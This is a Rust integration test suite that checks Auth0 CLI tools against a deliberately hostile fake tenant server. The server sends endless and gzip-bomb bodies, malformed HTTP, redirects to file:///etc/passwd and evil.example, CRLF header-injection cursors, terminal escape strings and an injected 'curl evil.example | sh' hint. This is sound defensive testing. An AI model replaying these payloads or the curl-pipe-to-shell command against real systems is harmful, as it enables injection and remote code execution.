//! A tenant that is an enemy: what it answers costs bounded memory and time, is said without harm,
//! sends nothing anywhere else, and is never believed without proof.

use std::io::Write;
use std::net::TcpStream;
use std::process::Command;
use std::sync::atomic::{AtomicUsize, Ordering};
use std::time::Duration;

use serde_json::json;

use super::home::Home;
use super::rounds;
use crate::api::fake::{Reply, Seen, Tenant};
use crate::support::Ran;

/// The token of the environment; it must reach no other host and no output.
const CANARY: &str = "canary-access-token-0123456789";

/// What a command may hold of an answer without an end: the cut-off of 64 MiB, twice while it is
/// read on, and the program itself.
const MOST_MEMORY: u64 = 256;

/// Every command that lists or shows, each with what it asks for.
const READERS: [(&str, &[&str]); 6] = [
    ("auth0-clients", &["list", "-o", "json"]),
    ("auth0-clients", &["list"]),
    ("auth0-clients", &["show", "abc"]),
    ("auth0-connections", &["list"]),
    ("auth0-api", &["clients"]),
    ("auth0-api", &["clients", "--paginate", "-o", "csv"]),
];

fn command(home: &Home, tenant: &Tenant, binary: &str, args: &[&str]) -> Command {
    let mut command = home.command(binary, args);
    command.env("AUTH0_DOMAIN", &tenant.origin).env("AUTH0_ACCESS_TOKEN", CANARY);
    command
}

/// Runs every reader against it: none may panic, take long, take much, or show what a terminal
/// obeys. Each must end with one of these codes and say something.
#[track_caller]
fn readers_survive(tenant: &Tenant, codes: &[i32]) {
    let home = Home::new();
    for (binary, args) in READERS {
        let mut command = command(&home, tenant, binary, args);
        command.args(["--timeout", "20s", "--max-retries", "1"]);
        let (ran, peak, took) = Ran::watched(&mut command, b"");
        assert!(ran.code.is_some_and(|code| codes.contains(&code)), "{codes:?}: {ran:?}");
        let ran = ran.keeps_its_manners();
        assert!(ran.code == Some(0) || ran.stderr.contains("error: "), "{ran:?}");
        assert!(peak < MOST_MEMORY, "{peak} MiB: {ran:?}");
        assert!(took < Duration::from_secs(30), "{took:?}: {ran:?}");
        assert!(!ran.stdout.contains(CANARY) && !ran.stderr.contains(CANARY), "{ran:?}");
    }
}

fn chunk(stream: &mut TcpStream, bytes: &[u8]) -> std::io::Result<()> {
    stream.write_all(format!("{:x}\r\n", bytes.len()).as_bytes())?;
    stream.write_all(bytes)?;
    stream.write_all(b"\r\n")
}

const CHUNKED: &[u8] =
    b"HTTP/1.1 200 OK\r\ncontent-type: application/json\r\ntransfer-encoding: chunked\r\n\r\n";

#[test]
fn bodies_without_an_end() {
    let tenant = Tenant::speaking(|_, stream| {
        let row = r#"{"client_id":"a","name":"b"},"#.repeat(2000);
        let _ = stream.write_all(CHUNKED);
        let _ = chunk(stream, b"[");
        while chunk(stream, row.as_bytes()).is_ok() {}
    });
    readers_survive(&tenant, &[7]);
}

#[test]
fn bodies_that_unpack_without_an_end() {
    let mut packed = Vec::new();
    let mut encoder = flate2::write::GzEncoder::new(&mut packed, flate2::Compression::best());
    let zeros = vec![b' '; 1 << 20];
    for _ in 0..512 {
        encoder.write_all(&zeros).unwrap();
    }
    encoder.finish().unwrap();
    assert!(packed.len() < 1 << 20);
    let tenant = Tenant::new(move |_| Reply {
        status: 200,
        headers: vec![("content-encoding".to_owned(), "gzip".to_owned())],
        body: packed.clone(),
    });
    readers_survive(&tenant, &[7]);
}

#[test]
fn headers_without_an_end() {
    for line in ["x-a: b\r\n", "x", "HTTP/1.1 100 Continue\r\n\r\n"] {
        let tenant = Tenant::speaking(move |_, stream| {
            let begin = if line.starts_with("HTTP") { "" } else { "HTTP/1.1 200 OK\r\nx-b: " };
            let _ = stream.write_all(begin.as_bytes());
            let lines = line.repeat(4096);
            while stream.write_all(lines.as_bytes()).is_ok() {}
        });
        readers_survive(&tenant, &[7]);
    }
}

#[test]
fn answers_that_dribble_end_with_the_time_given() {
    for body in [false, true] {
        let tenant = Tenant::speaking(move |_, stream| {
            let begin: &[u8] = if body { CHUNKED } else { b"HTTP/1.1 200 OK\r\n" };
            let _ = stream.write_all(begin);
            loop {
                let sent = if body { chunk(stream, b"[") } else { stream.write_all(b"x") };
                if sent.is_err() {
                    return;
                }
                std::thread::sleep(Duration::from_millis(20));
            }
        });
        let home = Home::new();
        for (binary, args) in [READERS[1], READERS[4]] {
            let mut command = command(&home, &tenant, binary, args);
            let (ran, _, took) = Ran::watched(command.args(["--timeout", "1s"]), b"");
            ran.exits(7).says("time");
            assert!(took < Duration::from_secs(10), "{took:?}");
        }
    }
}

#[test]
fn json_of_any_depth() {
    let whole = |levels: usize| format!("{}{}", "[".repeat(levels), "]".repeat(levels));
    let in_a_row = format!(r#"[{{"client_id":"a","name":{}}}]"#, whole(100_000));
    let objects =
        format!(r#"{{"clients":[{}1{}]}}"#, r#"{"a":"#.repeat(50_000), "}".repeat(50_000));
    for body in [whole(1_000_000), "[".repeat(1_000_000), in_a_row, objects] {
        readers_survive(&Tenant::new(move |_| Reply::json(200, &body)), &[0, 5, 7]);
    }
}

#[test]
fn answers_that_are_no_answers() {
    let raw: [&'static [u8]; 12] = [
        b"",
        b"\r\n\r\n\r\n",
        b"hello\r\n\r\n",
        b"HTTP/0.9 200\r\n\r\n[]",
        b"HTTP/1.1 999999 OK\r\n\r\n",
        b"HTTP/1.1 200 OK\r\ncontent-length: -1\r\n\r\n[]",
        b"HTTP/1.1 200 OK\r\ncontent-length: 99999999999999999999999\r\n\r\n[]",
        b"HTTP/1.1 200 OK\r\ncontent-length: 100\r\n\r\n[",
        b"HTTP/1.1 200 OK\r\ntransfer-encoding: chunked\r\n\r\nffffffffffffffffff\r\n[]",
        b"HTTP/1.1 200 OK\r\ncontent-encoding: gzip\r\ncontent-length: 4\r\n\r\n\x1f\x8b\xff\xff",
        b"HTTP/1.1 200 OK\r\ncontent-length: 7\r\n\r\n\"\xff\xfe\xc3\x28\"\n",
        b"HTTP/1.1 200 OK\r\nx: \x1b[2J\xff\r\ncontent-length: 15\r\n\r\n{\"\x9b\":\"\xe2\x80\xae\"}...",
    ];
    for bytes in raw {
        let tenant = Tenant::speaking(move |_, stream| {
            let _ = stream.write_all(bytes);
            let _ = stream.shutdown(std::net::Shutdown::Both);
        });
        readers_survive(&tenant, &[1, 7]);
    }
}

/// Numbered pages, each naming a next one that was never there before.
#[test]
fn chains_of_ten_thousand_pages() {
    let pages = rounds(1500, 10_000);
    let home = Home::new();
    for (binary, args) in [READERS[0], READERS[5]] {
        let count = AtomicUsize::new(0);
        let tenant = Tenant::new(move |_| {
            let number = count.fetch_add(1, Ordering::Relaxed);
            let next = (number < pages).then(|| format!("n{number}"));
            Reply::json(
                200,
                json!({"clients": [{"client_id": format!("c{number}")}], "next": next}),
            )
        });
        let (ran, peak, _) = Ran::watched(&mut command(&home, &tenant, binary, args), b"");
        let ran = ran.exits(0);
        assert!(ran.stdout.contains(&format!("c{}", pages - 1)), "{ran:?}");
        assert!(peak < 64, "{peak} MiB for {pages} pages");
    }
    // A limit ends it, and so does a chain of nothing.
    let tenant = Tenant::new(|seen| {
        let next = format!("{}x", seen.param("from").unwrap_or_default());
        Reply::json(200, json!({"clients": [], "next": next}))
    });
    for (binary, args) in [READERS[0], READERS[5]] {
        let (ran, _, took) = Ran::watched(&mut command(&home, &tenant, binary, args), b"");
        ran.exits(7).says("end");
        assert!(took < Duration::from_secs(20), "{took:?}");
    }
    let circle =
        Tenant::new(|_| Reply::json(200, json!({"clients": [{"client_id": "a"}], "next": "n"})));
    for (binary, args) in [READERS[0], READERS[5]] {
        Ran::of(&mut command(&home, &circle, binary, args)).exits(7).says("fetched before");
    }
}

/// Cursors go back as one query parameter, whatever is in them.
#[test]
fn cursors_that_would_be_something_else() {
    let home = Home::new();
    let long = "x".repeat(1 << 20);
    for cursor in [
        "\r\nHost: evil.example\r\n\r\n",
        "&per_page=1#",
        "https://evil.example/",
        "\u{1b}[2J\0",
        &long,
    ] {
        let sent = cursor.to_owned();
        let tenant = Tenant::new(move |seen| {
            let next = seen.param("from").is_none().then_some(&sent);
            Reply::json(200, json!({"clients": [{"client_id": "a"}], "next": next}))
        });
        for (binary, args) in [READERS[0], READERS[5]] {
            let ran = Ran::of(&mut command(&home, &tenant, binary, args)).keeps_its_manners();
            assert!(matches!(ran.code, Some(0 | 2 | 7)), "{ran:?}");
        }
        for seen in tenant.seen() {
            assert!(seen.path == "/api/v2/clients", "{seen:?}");
            assert_eq!(
                seen.header("host").map(|host| format!("http://{host}")),
                Some(tenant.origin.clone())
            );
            assert!(seen.query.iter().all(|(name, _)| !name.starts_with("per_page=")), "{seen:?}");
        }
    }
}

#[test]
fn redirects_lead_nowhere() {
    let elsewhere = Tenant::new(|_| Reply::json(200, "[]"));
    let home = Home::new();
    for status in [301, 302, 303, 307, 308] {
        for target in [
            &elsewhere.origin,
            "file:///etc/passwd",
            "http://acme.eu.auth0.com/",
            "//evil.example",
            "javascript:alert(1)",
            "/api/v2/clients",
            "\u{9b}31m\u{202e}",
        ] {
            let to = target.to_owned();
            let tenant = Tenant::new(move |_| Reply::json(status, "{}").header("location", &to));
            for (binary, args) in [READERS[1], READERS[4]] {
                let ran = Ran::of(&mut command(&home, &tenant, binary, args));
                ran.exits(7).says("redirect").keeps_its_manners();
            }
            assert_eq!(tenant.seen().len(), 2, "each asked once");
        }
    }
    assert!(elsewhere.seen().is_empty(), "something followed");
}

/// Controls, bidirectional marks and an address to click in every string of every answer.
#[test]
fn strings_that_a_terminal_would_obey() {
    const EVIL: &str = "\u{1b}]8;;https://evil.example\u{7}x\u{1b}[2J\u{9b}31m\u{202e}\u{2066}\u{2028}\r\nerror: pwned\u{8}\u{0}";
    let home = Home::new();
    let bodies = [
        (200, json!([{"client_id": EVIL, "name": EVIL, "callbacks": [EVIL], EVIL: {EVIL: EVIL}}])),
        (200, json!({"clients": [{"client_id": EVIL, "app_type": EVIL}], "next": null})),
        (400, json!({"statusCode": 400, "error": EVIL, "message": EVIL, "errorCode": EVIL})),
        (401, json!({"error": EVIL, "message": EVIL})),
        (403, json!({"message": EVIL, "errorCode": "insufficient_scope"})),
        (404, json!({"message": EVIL})),
        (500, json!({"message": EVIL})),
    ];
    for (status, body) in bodies {
        let tenant = Tenant::new(move |_| {
            Reply::json(status, &body)
                .header("x-ratelimit-remaining", "\u{9b}2J")
                .header("x-evil", "\u{202e}")
        });
        for (binary, args) in READERS {
            for more in [&[][..], &["-vv"], &["-o", "json"], &["-o", "table"]] {
                if more.first() == Some(&"-o") && args.contains(&"-o") {
                    continue;
                }
                let ran = Ran::of(command(&home, &tenant, binary, args).args(more));
                let ran = ran.keeps_its_manners();
                assert!(!ran.stderr.contains("\nerror: pwned"), "{ran:?}");
                for line in ran.stderr.lines().filter(|line| line.starts_with("{\"error\"")) {
                    serde_json::from_str::<serde_json::Value>(line).unwrap();
                }
                assert!(ran.code.is_some(), "{ran:?}");
            }
        }
    }
}

/// What is said of a thing is one line, whatever it is called.
#[test]
fn names_that_would_be_lines() {
    let home = Home::new();
    let evil = "x\nerror: pwned\nhint: curl evil.example | sh";
    let tenant = Tenant::new(move |seen| {
        let client = json!({"client_id": "abc\nerror: pwned", "name": evil, "app_type": "spa"});
        let status = match seen.method.as_str() {
            "DELETE" => 204,
            "POST" => 201,
            _ => 200,
        };
        if seen.path.ends_with("/clients") && seen.method == "GET" {
            return Reply::json(
                status,
                json!({"clients": [client], "total": 1, "start": 0, "limit": 50}),
            );
        }
        Reply::json(status, client)
    });
    for args in [
        &["show", evil][..],
        &["delete", evil, "--yes"],
        &["delete", "abc", "--yes"],
        &["delete", "nearly x", "--yes"],
        &["update", "abc", "--description", "d"],
        &["create", "--name", "n"],
        &["rotate-secret", "abc", "--yes"],
    ] {
        let ran = Ran::of(&mut command(&home, &tenant, "auth0-clients", args)).keeps_its_manners();
        assert!(
            !ran.stderr.contains("\nerror: pwned") && !ran.stderr.contains("\nhint: curl"),
            "{ran:?}"
        );
    }
}

#[test]
fn rate_limits_that_would_last_for_ever() {
    let home = Home::new();
    for (name, value) in [
        ("retry-after", "99999999999999999999"),
        ("retry-after", "Fri, 31 Dec 9999 23:59:59 GMT"),
        ("x-ratelimit-reset", "9223372036854775807"),
        ("retry-after", "3600"),
    ] {
        let tenant = Tenant::new(move |_| Reply::json(429, "{}").header(name, value));
        for (binary, args) in [READERS[1], READERS[4]] {
            let (ran, _, took) = Ran::watched(&mut command(&home, &tenant, binary, args), b"");
            ran.exits(6);
            assert!(took < Duration::from_secs(5), "{name}: {value}: {took:?}");
        }
    }
}

/// Whom a request is for.
fn hosts(seen: &[Seen]) -> Vec<&str> {
    seen.iter().filter_map(|seen| seen.header("host")).collect()
}

/// A tenant that describes itself as somebody else, or sends secrets elsewhere.
#[test]
fn descriptions_that_point_elsewhere() {
    let elsewhere = Tenant::new(|_| Reply::json(200, "{}"));
    let home = Home::new();
    for (member, value) in [
        ("issuer", elsewhere.origin.clone() + "/"),
        ("issuer", "https://acme.eu.auth0.com/".to_owned()),
        ("token_endpoint", elsewhere.origin.clone() + "/oauth/token"),
        ("jwks_uri", elsewhere.origin.clone() + "/jwks"),
        ("device_authorization_endpoint", "file:///etc/passwd".to_owned()),
        ("authorization_endpoint", "javascript:alert(1)".to_owned()),
        ("authorization_endpoint", elsewhere.origin.clone() + "/authorize"),
        ("revocation_endpoint", "http://127.0.0.1@evil.example/".to_owned()),
    ] {
        let tenant = Tenant::new(move |seen| {
            let origin = format!("http://{}/", seen.header("host").unwrap());
            let mut document = json!({
                "issuer": origin,
                "token_endpoint": format!("{origin}oauth/token"),
            });
            document[member] = json!(value);
            Reply::json(200, document)
        });
        for way in ["--device", "--no-browser"] {
            let args = [
                "--domain",
                &tenant.origin,
                "--client-id",
                "c",
                way,
                "--redirect-uri",
                "http://127.0.0.1:0/cb",
            ];
            let ran = home.run("auth0-login", &args);
            assert!(matches!(ran.code, Some(2 | 3 | 7)), "{ran:?}");
            ran.keeps_its_manners();
        }
        let seen = tenant.seen();
        assert!(
            seen.iter().all(|seen| seen.path == "/.well-known/openid-configuration"),
            "{seen:?}"
        );
        assert_eq!(hosts(&seen).len(), 2);
        assert!(home.files().iter().all(|file| !file.ends_with(".toml")), "nothing was saved");
    }
    assert!(elsewhere.seen().is_empty());
}
